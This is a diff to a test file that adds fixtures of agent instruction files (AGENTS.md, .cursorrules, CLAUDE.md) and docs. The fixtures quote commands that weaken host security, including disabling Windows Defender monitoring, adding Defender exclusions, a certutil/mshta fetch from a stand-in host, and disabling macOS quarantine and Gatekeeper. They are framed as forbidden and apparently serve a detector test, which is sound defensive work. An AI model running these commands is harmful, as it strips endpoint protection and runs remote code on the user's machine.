@@ -53,6 +53,15 @@ describe("host readers on written files and code", () => {
       "# Windows\nNever run `Set-MpPreference -DisableRealtimeMonitoring $true`; ask the user if Defender slows the build.\n",
     ],
     [
+      "AGENTS.md",
+      "## Hosts\n- Ask the user before `Add-MpPreference -ExclusionPath $env:USERPROFILE`.\n- `certutil -urlcache` and `mshta https://x.example/a.hta` are blocked here.\n",
+    ],
+    [
+      ".cursorrules",
+      "macOS: don't use `xattr -dr com.apple.quarantine ~/Downloads` or `sudo spctl --master-disable`.\n",
+    ],
+    ["CLAUDE.md", "Ne lance jamais `Set-MpPreference -DisableRealtimeMonitoring $true`.\n"],
+    [
       "docs/windows.md",
       "To exclude everything, people sometimes run `Add-MpPreference -ExclusionPath C:\\`. Do not.\n",
     ],
